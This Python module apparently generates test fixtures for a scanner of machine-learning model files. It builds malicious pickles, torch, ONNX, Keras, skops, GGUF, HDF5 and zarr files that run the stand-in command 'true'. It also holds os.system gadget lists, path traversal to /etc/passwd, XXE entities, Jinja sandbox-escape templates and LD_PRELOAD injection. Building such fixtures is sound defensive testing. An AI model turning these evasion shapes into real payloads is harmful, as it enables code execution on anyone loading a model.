"""Attacks beside those of `malicious.py`: names that no list of harmful ones has, classes of known libraries used as no pickler
uses them, pickles in other writings, archives that say two things, graphs and templates that reach out.

Each was written against the scanner, and stays. Shapes of real attacks, `true` for what they would run; nobody loads them.
"""

import base64
import bz2
import gzip
import io
import json
import pickle
import struct
import tarfile
import zipfile
import zlib

from opcodes import PROTO, call, glob, stack_glob, text

COMMAND = text("true")
SYSTEM = call(glob("os", "system"), COMMAND)
EVIL = PROTO + SYSTEM + b"."

GAPS = """
torch.utils.data.datapipes.utils.decoder.basichandlers torchvision.models._api.get_model transformers.models.bert.tokenization_bert.BertTokenizer
transformers.pipelines.pipeline sklearn.datasets._base.load_files sklearn.datasets.fetch_openml nltk.tag.hunpos.HunposTagger nltk.data.load
nltk.internals.java gensim.utils.unpickle gensim.models.wrappers.ldamallet.LdaMallet optuna.storages.RDBStorage optuna.study.study.load_study
pandas.io.pickle.read_pickle pandas.read_pickle pandas.eval pandas.core.computation.eval.eval numpy.load numpy.lib.npyio.load
numpy.f2py.crackfortran.myeval joblib.load joblib.numpy_pickle.load scipy.io.loadmat dill._dill._create_function dill.loads
cloudpickle.cloudpickle._make_function PIL.Image.open PIL.ImageShow.show PIL.ImageMath.eval xgboost.core._load_lib statsmodels.base.data.ModelData
networkx.readwrite.gpickle.read_gpickle ultralytics.nn.tasks.attempt_load_weights torch.optim.lr_scheduler.LambdaLR omegaconf.omegaconf.OmegaConf
hydra.utils.instantiate typing.get_type_hints collections.namedtuple functools.reduce argparse.FileType argparse.ArgumentParser copyreg.add_extension
dataclasses.make_dataclass types.FunctionType types.CodeType builtins.type builtins.vars _operator.methodcaller _io.FileIO io.open_code
asyncio.subprocess.create_subprocess_shell concurrent.futures.process.ProcessPoolExecutor multiprocessing.spawn.spawn_main multiprocessing.pool.Pool
logging.handlers.SocketHandler logging.FileHandler http.server.HTTPServer smtplib.SMTP xmlrpc.client.ServerProxy telnetlib.Telnet site.execsitecustomize
zipimport.zipimporter test.support.script_helper.assert_python_ok tkinter.Tcl sqlite3.connect shelve.open marshal.loads jsonpickle.decode
yaml.unsafe_load jinja2.Template pexpect.run paramiko.SSHClient requests.get urllib.request.urlretrieve mlflow.pyfunc.load_model
keras.models.load_model keras.src.saving.serialization_lib.deserialize_keras_object tensorflow.py_function tensorflow.io.read_file
tensorflow.python.ops.script_ops.eager_py_func onnxruntime.InferenceSession torch.load torch.jit.load torch.package.PackageImporter
torch.utils.cpp_extension.load_inline torch.distributed.rpc.init_rpc torch.fx.graph_module.reduce_graph_module torch._inductor.codecache.compile_file
torch.hub.load_state_dict_from_url torch.from_file llm.mymodel.run
""".split()
DOTTED = [
    ("torchvision.models._utils", "os.system"), ("transformers.models.bert.modeling_bert", "os.system"), ("transformers.models.bert.modeling_bert", "Os.system"),
    ("transformers", "AutoModel.from_pretrained"), ("gensim.models.word2vec", "Word2Vec.load"), ("pandas.core.frame", "DataFrame.eval"),
    ("networkx.utils.decorators", "argmap._lazy_compile"), ("collections", "_sys"), ("torch.nn.modules.container", "Sequential.os"),
    ("zoneinfo", "ZoneInfo.from_file"), ("decimal", "Decimal.os"), ("pathlib", "PosixPath.touch"), ("random", "_os.system"), ("array", "array.tofile"),
    ("builtins", "hash.__self__.eval"), ("typing", "ForwardRef._evaluate"), ("torch", "classes.load_library"), ("torch", "UntypedStorage.from_file"),
    ("torch._C.Generator", "os"), (".os", "system"), ("os.__init__", "system"), ("OS", "SYSTEM"), ("\u043es", "system"), ("os\0", "system"),
]


def answers():
    """Objects that are told by their own state what Python asks of them next. CPython's unpicklers call what they find there."""
    model, lines = stack_glob("cmdstanpy.model", "CmdStanModel"), stack_glob("gensim.models.word2vec", "LineSentence") + b")\x81"
    relu, ridge = stack_glob("torch.nn.modules.activation", "ReLU") + b")\x81", stack_glob("sklearn.linear_model._ridge", "Ridge") + b")\x81"
    counts, table = stack_glob("nltk.probability", "FreqDist") + b")\x81", stack_glob("torch.nn.modules.container", "ModuleDict") + b")\x81"
    bodies = {
        "own_setstate": relu + b"}" + text("__setstate__") + model + b"sb" + text("x.stan") + b"b",
        "own_setstate_made": relu + b"}" + call(stack_glob("numpy", "str_"), text("__setstate__")) + model + b"sb" + text("x.stan") + b"b",
        "own_extend": counts + b"}" + text("extend") + model + b"sb(" + text("x.stan") + b"e",
        "own_append": counts + b"}" + text("append") + model + b"sb" + text("x.stan") + b"a",
        "own_add": counts + b"}" + text("add") + model + b"sb(" + text("x.stan") + b"\x90",
        "own_extend_ordered": call(stack_glob("collections", "OrderedDict")) + b"}" + text("extend") + model + b"sb(" + text("x.stan") + b"e",
        "items_on_module": table + text("x") + relu + b"s",
        "factory_as_state": ridge + call(stack_glob("collections", "defaultdict"), model) + b"b",
        "version_is_object": ridge + b"}" + text("_sklearn_version") + lines + b"}" + text("source") + text("x") + b"sbsb",
    }
    return {name: ("harmless class, harmful state", body) for name, body in bodies.items()}


def pickles():
    for dotted in GAPS:
        module, _, name = dotted.rpartition(".")
        yield f"gadget/{dotted}.pkl", "deny-list gap", PROTO + call(stack_glob(module, name), COMMAND) + b"."
    for number, (module, name) in enumerate(DOTTED):
        yield f"gadget/dotted{number}.pkl", "dotted name", PROTO + call(stack_glob(module, name), COMMAND) + b"."
    bert = stack_glob("transformers.models.bert.modeling_bert", "BertModel")
    array = stack_glob("dill._dill", "_create_array")
    shapes = {
        "new_with_arguments": ("harmless class, harmful state", stack_glob("torchvision.models.resnet", "ResNet") + text("x") + b"\x85\x81"),
        "called_not_made": ("harmless class, harmful state", call(bert, COMMAND)),
        "array_of_system": ("resolver handed on", call(array, glob("os", "system"), COMMAND + b"\x85", b"N", b"N")),
        "array_of_getattr": ("resolver handed on", call(array, glob("builtins", "getattr"), glob("os", "sys") + text("x") + b"\x86", b"N", b"N")),
        "type_then_called": ("type confusion", call(call(stack_glob("dill._dill", "_load_type"), text("FunctionType")), COMMAND)),
        "formula": ("harmless class, harmful state", stack_glob("statsmodels.base.data", "ModelData") + b")\x81}(" + text("restore_model_spec") + b"\x88" + text("formula") + text("__import__('os').system('true')") + b"ub"),
        "frozen": ("harmless class, harmful state", stack_glob("scipy.stats._distn_infrastructure", "rv_continuous_frozen") + b")\x81}" + text("dist") + glob("os", "system") + b"sb"),
        "forward_is_system": ("harmless class, harmful state", stack_glob("torch.nn.modules.linear", "Linear") + b")\x81N}" + text("forward") + glob("os", "system") + b"s\x86b"),
        "key_is_system": ("import", b"}" + glob("os", "system") + b"Ns"),
        "module_is_changed": ("state of an import", stack_glob("torch.nn.modules", "linear") + b"}" + text("Linear") + glob("os", "system") + b"sb"),
        "environment": ("state of an import", stack_glob("os", "environ") + text("LD_PRELOAD") + text("/tmp/x.so") + b"s"),
        "search_path": ("state of an import", stack_glob("sys", "path") + b"(" + COMMAND + b"e"),
    }
    for name, (kind, body) in (shapes | answers()).items():
        yield f"gadget/{name}.pkl", kind, PROTO + body + b"."
    start = b"".join(pickle.dumps(value, 2) for value in [0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}])
    module = b"\x80\x02(U\x06modulecos\nsystem\nU\x01xU\x01ytQ(U\x04truetR."
    yield "gadget/module_id.pth", "torch legacy", start + module + pickle.dumps([], 2)
    for name, body in {"eval": b"c__builtin__\neval\n(S'1'\ntR.", "getoutput": b"ccommands\ngetoutput\n(S'true'\ntR.", "urlopen": b"curllib2\nurlopen\n(S'x'\ntR."}.items():
        yield f"gadget/python2_{name}.pkl", "old call form", body


def called():
    """Listed names that call, iterate or evaluate what they are given."""
    lines = stack_glob("gensim.models.word2vec", "LineSentence")
    address, code = text("http://127.0.0.1/x"), text("__import__('os').system('true')")
    made = lines + b")\x81}" + text("source") + address + b"sb"
    sine = stack_glob("sympy.functions.elementary.trigonometric", "sin")
    shapes = {
        "iterated": call(glob("builtins", "list"), made), "shown": call(glob("builtins", "str"), b"](" + made + b"e"), "counted": call(glob("collections", "Counter"), made),
        "base": call(glob("copyreg", "_reconstructor"), lines, lines, address),
        "generator": call(stack_glob("numpy.random._pickle", "__generator_ctor"), address, lines),
        "bit_generator": call(stack_glob("numpy.random._pickle", "__bit_generator_ctor"), lines),
        "rebuilt": call(glob("torch._tensor", "_rebuild_from_type_v2"), lines, lines, address + b"\x85", b"}"),
        "array": call(stack_glob("dill._dill", "_create_array"), lines, address + b"\x85", b"N"),
        "code_type": call(stack_glob("dill._dill", "_load_type"), text("CodeType")),
        "sympy_text": sine + code + b"\x85\x81", "sympy_list": sine + b"](" + code + b"e\x85\x81",
        "sympy_matrix": stack_glob("sympy.matrices.immutable", "ImmutableDenseMatrix") + b"(K\1K\1" + stack_glob("sympy.core.containers", "Tuple") + code + b"\x85\x81t\x81",
        "sympy_matrix_list": stack_glob("sympy.matrices.immutable", "ImmutableDenseMatrix") + b"(K\1K\1](" + code + b"et\x81",
        "sympy_symbol_size": stack_glob("sympy.matrices.expressions.matexpr", "MatrixSymbol") + b"(" + text("A") + code + b"K\1t\x81",
        "sympy_long": sine + b"X" + struct.pack("<I", 4000) + b"x" * 4000 + b"\x85\x81",
        "chain": stack_glob("torch.nn.modules.linear", "Linear") + b")\x81" + stack_glob("collections", "ChainMap") + b")\x81}bb",
        "items_of_list": b"](K\0K\1u", "element_of_dict": b"}K\0a", "item_of_tensor": call(glob("torch._utils", "_rebuild_parameter"), b"N", b"\x88", b"}") + b"K\0K\1s",
        "key": stack_glob("pandas", "DataFrame") + b")\x81" + lines + b"Ns",
    }
    for name, body in shapes.items():
        yield f"called/{name}.pkl", "harmless function, harmful argument", PROTO + body + b"."


def counted():
    """joblib's stand-ins, counted wrongly: the numbers hide what a reader that counts right finds behind them."""
    evil = b"0" + SYSTEM + b"."
    hidden = (b"0N0N0C" + bytes([40 + len(evil) - 7])).ljust(40, b"\0") + evil + b"."
    dtype = lambda kind: call(glob("numpy", "dtype"), text(kind), b"\x89", b"\x88")
    shape = lambda count: text("shape") + b"K" + bytes([count]) + b"\x85"
    stand_in = lambda state: PROTO + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + state + b"ub" + hidden
    grown = dtype("V1") + b"(K\x03" + text("|") + b"NNNK\x28K\x01K\0tb"
    yield "counted/many.joblib", "joblib: size", stand_in(shape(0) + text("dtype") + dtype("u1") + (text("order") + b"N") * 70 + shape(40))
    yield "counted/grown.joblib", "joblib: size", stand_in(shape(1) + text("dtype") + grown)
    yield "counted/long_name.joblib", "joblib: size", stand_in(shape(5) + text("dtype") + dtype("float64"))
    yield "counted/aligned.joblib", "joblib: size", stand_in(shape(39) + text("dtype") + dtype("u1") + text("numpy_array_alignment_bytes") + b"\x88")


def followed():
    """A beginning that is harmless to whoever reads no further."""
    yield "followed/protocol0.pkl", "several streams", b"(lp0\n." + EVIL
    yield "followed/letters.pkl", "several streams", b"(lp0\n.cos\nsystem\n(S'true'\ntR."
    yield "followed/opcodes.yaml", "configuration", b"NNN.: 1\nmodel: !!python/object/apply:os.system ['true']\n"
    yield "followed/latin.pkl", "nested pickle", b"(dp0\nV" + PROTO + call(stack_glob("os", "system"), COMMAND) + b".\np1\nI1\ns."
    legacy = b"".join(pickle.dumps(value, 2) for value in [0x1950A86A20F9469CFC6C, 1001, {}, {}, [], None, None])
    yield "followed/legacy.pth", "torch legacy", legacy + EVIL
    yield "followed/paper.pdf", "nested pickle", b"%PDF-1.4\n" + EVIL
    yield "followed/tar.pkl", "nested pickle", pickle.dumps({"folder": tarred({"w.pkl": EVIL})}, 4)
    pair = struct.pack("<Q", 1) + b"a" + struct.pack("<II", 4, 1)
    yield "followed/padding.gguf", "gguf header", (b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pair + b"\x80\x04N.").ljust(64, b"\0")


def nested():
    size = lambda data: struct.pack("<I", len(data))
    letters = EVIL.decode("latin-1").encode()
    bodies = {
        "bytearray": b"\x96" + struct.pack("<Q", len(EVIL)) + EVIL,
        "letters": b"X" + size(letters) + letters,
        "gzip": b"B" + size(gzip.compress(EVIL)) + gzip.compress(EVIL),
        "zlib_base64": text(base64.b64encode(zlib.compress(EVIL * 3)).decode()),
    }
    for name, body in bodies.items():
        yield f"nested/{name}.pkl", "nested pickle", b"\x80\x05" + body + b"."
    for version, length in ((2, "<I"), (3, "<I")):
        header = b"{'descr': [('a', [('b', 'O')])], 'fortran_order': False, 'shape': (1,), }".ljust(117) + b"\n"
        yield f"nested/fields_v{version}.npy", "numpy object array", b"\x93NUMPY" + bytes([version, 0]) + struct.pack(length, 118) + header + EVIL


def archive(members):
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as file:
        for name, body in members.items():
            file.writestr(name, body)
    return data.getvalue()


def tarred(members, **more):
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as file:
        for name, body in members.items():
            member = tarfile.TarInfo(name)
            member.size = len(body)
            for key, value in more.items():
                setattr(member, key, value)
            file.addfile(member, io.BytesIO(body))
    return data.getvalue()


def rebuilt(count):
    """A tensor's pickle, whose storage has so many numbers."""
    storage = b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + b"K" + bytes([count]) + b"tQ"
    return PROTO + call(glob("torch._utils", "_rebuild_tensor_v2"), storage, b"K\0", b"K\x04\x85", b"K\1\x85", b"\x89", b"}") + b"."


def archives():
    yield "export/storage.pt", "torch zip", archive({"m/data.pkl": rebuilt(200), "m/data/0": bytes(16), "m/version": "3\n"})
    exported = {"m/archive_format": "pt2", "m/archive_version": "0"}
    yield "export/weights.pt2", "torch zip", archive({**exported, "m/data/weights/weight_0": EVIL})
    yield "export/beside.pt2", "torch zip", archive({**exported, "m/data/weights/evil.pkl": EVIL})
    yield "export/library.pt2", "program", archive({**exported, "m/data/aotinductor/model/x.so": b"\x7fELF\x02\x01\x01" + bytes(60)})
    inner = archive({"a/data.pkl": EVIL})
    yield "export/inputs.pt2", "torch zip", archive({**exported, "m/data/sample_inputs/model.pt": inner})
    script = {"a/data.pkl": pickle.dumps({}), "a/constants.pkl": pickle.dumps(())}
    yield "script/debug.pt", "torchscript", archive({**script, "a/code/__torch__.py.debug_pkl": EVIL})
    yield "script/attributes.pt", "torchscript", archive({**script, "a/attributes.pkl": EVIL})
    yield "script/bytecode.ptl", "torchscript", archive({"a/data.pkl": pickle.dumps({}), "a/bytecode.pkl": EVIL})
    yield "tar/pax_path.tar", "archive: name leads out", tarred({"ok.txt": b"x"}, pax_headers={"path": "../../evil.py"})
    yield "tar/after_end.tar", "tar", tarred({"ok.txt": b"hello"}) + tarred({"x.pkl": EVIL})
    yield "tar/deep.tar.gz", "archive in archive", gzip.compress(tarred({"in.tar.bz2": bz2.compress(tarred({"x.pkl": EVIL}))}))
    schema = lambda value: archive({"schema.json": json.dumps(value)})
    yield "skops/type.skops", "skops", schema({"__class__": "type", "__module__": "builtins", "__loader__": "TypeNode", "content": {"__class__": "Popen", "__module__": "subprocess"}})
    yield "skops/outside.skops", "archive: name leads out", schema({"__class__": "ndarray", "__module__": "numpy", "__loader__": "NdArrayNode", "type": "numpy", "file": "../../x.npy"})
    yield "skops/pickle_beside.skops", "skops", archive({"schema.json": json.dumps({"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}}), "x.bin": EVIL})
    resolved = {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "getattr"}}
    yield "skops/getattr.skops", "skops", archive({"schema.json": json.dumps(resolved)})
    layers = {
        "loop": {"module": "keras.src.ops.core", "class_name": "Map", "config": {}},
        "load": {"module": "keras.src.ops.numpy", "class_name": "load", "config": {}},
        "deep": {"module": "keras.layers", "class_name": "Dense", "config": {"a": {"b": [{"c": {"module": "os", "class_name": "system", "config": "true"}}]}}},
        "initializer": {"module": "keras.layers", "class_name": "Dense", "config": {"kernel_initializer": {"module": "subprocess", "class_name": "Popen", "config": {}}}},
    }
    for name, layer in layers.items():
        model = {"module": "keras", "class_name": "Sequential", "config": {"layers": [layer]}}
        yield f"keras/{name}.keras", "keras module", archive({"config.json": json.dumps(model), "metadata.json": "{}"})


TEMPLATES = {
    "namespace": "{% set ns = namespace(x=''.__class__) %}{{ ns.x.mro() }}", "format": "{{ '%c%c'|format(95,95) ~ 'class' }}{{ x[y] }}",
    "plus": "{{ messages['__cla'+'ss__'] }}", "map": "{{ messages|map(attribute='__class__')|list }}", "import": "{% import 'x' as y %}",
    "octal": "{{ ''['\\137\\137class\\137\\137'] }}", "reversed": "{{ ''['__ssalc__'|reverse] }}", "replaced": "{{ ''['XXclassXX'|replace('X','_')] }}",
    "lowered": "{{ ''['__CLASS__'|lower] }}", "joined": "{{ ''[['__','class','__']|join] }}", "keys": "{{ dict(__class__=1)|list }}{{ ''[dict(__class__=1)|list|first] }}",
    "brace": "{{ '{0.__class__}'.format(messages) }}", "frame": "{{ (messages|batch(1)).gi_frame.f_builtins }}", "sliced": "{{ ''['ab__class__cd'[2:11]] }}",
}


def documents(field):
    for name, template in TEMPLATES.items():
        raw = template.encode()
        key = b"tokenizer.chat_template"
        pair = struct.pack("<Q", len(key)) + key + struct.pack("<IQ", 8, len(raw)) + raw
        yield f"templates/{name}.gguf", "chat template", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + pair
        yield f"templates/{name}/chat_template.jinja", "chat template", raw
    yield "gguf/behind.gguf", "gguf header", b"GGUF" + struct.pack("<IQQ", 3, 0, 0) + bytes(8) + EVIL
    entry = lambda key, value: field(13, field(1, key) + field(2, value))
    outside = field(8, "w") + entry("location", "../../x") + b"\x70\x01"
    model = lambda *parts: b"\x08\x08" + field(7, b"".join(parts) + field(2, "g")) + field(8, b"\x10\x11")
    graphs = {
        "sparse": model(field(15, field(1, outside))), "subgraph": model(field(1, field(4, "If") + field(5, field(1, "then_branch") + field(6, field(5, outside))))),
        "function": b"\x08\x08" + field(7, field(2, "g")) + field(25, field(1, "f") + field(7, field(4, "Constant") + field(5, field(1, "value") + field(5, outside))) + field(10, "d")),
        "training": model() + field(20, field(2, field(5, outside))), "behind": model() + EVIL,
    }
    located = lambda path, kind=1: model(field(5, b"\x08\x01\x10" + bytes([kind]) + field(8, "w") + entry("location", path) + b"\x70\x01"))
    graphs |= {f"escaped{number}": located(path) for number, path in enumerate(["%2e%2e/x", "..%2fx", "%252e%252e%252fx", "%2fetc%2fx", "%" + "25" * 9 + "2e%2e/x"])}
    graphs |= {f"raw{kind}": model(field(5, b"\x08\x64\x10" + bytes([kind]) + field(8, "w") + field(9, EVIL))) for kind in (1, 2, 3)}
    graphs |= {"raw_behind": model(field(5, b"\x08\x64\x10\x02" + field(8, "w") + field(9, bytes(40) + EVIL))), "strings": model(field(5, b"\x08\x01\x10\x08" + field(8, "w") + field(6, "a") + field(6, EVIL)))}
    for name, data in graphs.items():
        yield f"onnx/{name}.onnx", "onnx external data", data
    outside = 'ir_version: 8\ngraph { name: "g" initializer { name: "w" data_type: 1 %s data_location: EXTERNAL } }\n'
    texts = {
        "entry.textproto": outside % 'external_data { key: "location" value: "../x" }', "turned.prototxt": outside % "external_data { value: '/etc/x' key: 'location' }",
        "escape.pbtxt": outside % 'external_data { key: "loc\\141tion" value: "\\056./x" }', "between.textproto": outside % 'external_data { key # "x"\n: "location"; value: ".." "/x" }',
        "python.textproto": 'ir_version: 8 graph { node { input: "x" op_type: "PyOp" domain: "ai.onnx.contrib" } }', "foreign.textproto": 'graph { node { op_type: "Run" domain: "evil" } } ir_version: 8',
        "own.onnxtxt": '<ir_version: 8, opset_import: ["" : 18, "evil" : 1]>\ng (float[N] x) => (float[N] y) {\n y = evil.Run (x)\n}\n',
        "data.onnxtxt": '<ir_version: 8, opset_import: ["" : 18]>\ng (float[N] x) => (float[N] y)\n<float[4] w = ["location": "../x", "offset": "0"]>\n{\n y = Add (x, w)\n}\n',
        "model.onnxjson": json.dumps({"irVersion": "8", "graph": {"initializer": [{"name": "w", "externalData": [{"key": "location", "value": "../x"}]}]}}),
        "model.json": json.dumps({"irVersion": "8", "graph": {"node": [{"opType": "PyOp", "domain": "ai.onnx.contrib"}]}}),
    }
    for name, body in texts.items():
        yield f"onnx/text/{name}", "onnx external data" if "Op" not in body and "evil" not in body else "onnx custom operator", body.encode()
    yield "pmml/utf7.pmml", "xml entity", b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x SYSTEM "http://127.0.0.1/x"+AD4-<PMML version="4.4"/>'
    yield "pmml/utf16.pmml", "xml entity", '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><PMML version="4.4">&a;</PMML>'.encode("utf-16")
    yield "pmml/included.pmml", "xml entity", b'<?xml version="1.0"?><PMML version="4.4" xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></PMML>'
    yield "settings/hyper.yaml", "configuration", b"model: !apply:os.system ['true']\n"
    yield "settings/model_index.json", "configuration", json.dumps({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]}).encode()
    yield "settings/pytorch_model.bin.index.json", "archive: name leads out", json.dumps({"weight_map": {"a": "../../etc/passwd"}}).encode()
    yield "settings/path.pth", "program", b"import os; os.system('true')\n"


def operators(field):
    definition = lambda name, attribute=b"": field(1, field(1, "n") + field(2, name) + attribute)
    saved = lambda *nodes: b"\x08\x01" + field(2, field(2, b"".join(nodes)))
    address = field(5, field(1, "debug_urls") + field(2, field(1, field(2, "grpc://127.0.0.1:1"))))
    yield "operators/debug/saved_model.pb", "tensorflow operator", saved(definition("Const"), definition("DebugIdentity", address))
    yield "operators/call/saved_model.pb", "tensorflow operator", saved(definition("Const"), definition("RpcCall"))
    code = "class Net(Module):\n  def forward(self: __torch__.Net) -> Tensor:\n    _0 = __import__('os').system('true')\n    return _0\n"
    script = {"m/data.pkl": pickle.dumps({}), "m/constants.pkl": pickle.dumps(()), "m/code/__torch__.py": code}
    yield "operators/import.pt", "torchscript", archive(script)


def stores(field):
    zarr = {"zarr_format": 2, "shape": [1], "chunks": [1], "dtype": "|O", "filters": [{"id": "pickle", "protocol": 4}], "compressor": None, "order": "C", "fill_value": None}
    yield "zarr/.zarray", "configuration", json.dumps(zarr).encode()
    yield "zarr/0", "configuration", EVIL
    yield "zarr3/zarr.json", "configuration", json.dumps({"zarr_format": 3, "node_type": "array", "shape": [1], "codecs": [{"name": "numcodecs.pickle"}]}).encode()
    node = field(1, "n") + field(2, "PrintV2") + field(5, field(1, "output_stream") + field(2, field(2, "file:///tmp/x")))
    yield "print/saved_model.pb", "tensorflow operator", b"\x08\x01" + field(2, field(2, field(1, field(1, "c") + field(2, "Const")) + field(1, node)))
    try:
        import h5py
        import numpy
    except ImportError:
        return
    for name, make in {"object_array": objects, "bytes": lambda file: file.attrs.update(x=numpy.void(EVIL)), "virtual": virtual}.items():
        data = io.BytesIO()
        with h5py.File(data, "w", libver="latest") as file:
            make(file)
        yield f"hdf5/{name}.h5", "hdf5 external" if name == "virtual" else "nested pickle", data.getvalue()


def objects(file):
    """An array of objects as PyTables keeps it, and unpickles it."""
    import h5py
    import numpy

    kept = file.create_dataset("o", (1,), dtype=h5py.vlen_dtype(numpy.uint8))
    kept[0] = numpy.frombuffer(EVIL, numpy.uint8)
    kept.attrs.update(CLASS="VLARRAY", PSEUDOATOM="object", FLAVOR="python")


def virtual(file):
    import h5py

    layout = h5py.VirtualLayout((10,), "u1")
    layout[:] = h5py.VirtualSource("../../other.h5", "d", (10,))
    file.create_virtual_dataset("v", layout)


def write(put, folder, field):
    """Writes all of them by `put(name, class, bytes)`."""
    for name, kind, data in [*pickles(), *called(), *counted(), *followed(), *nested(), *archives(), *documents(field), *operators(field), *stores(field)]:
        name = f"gadgets/{name}"
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        put(name, kind, data)
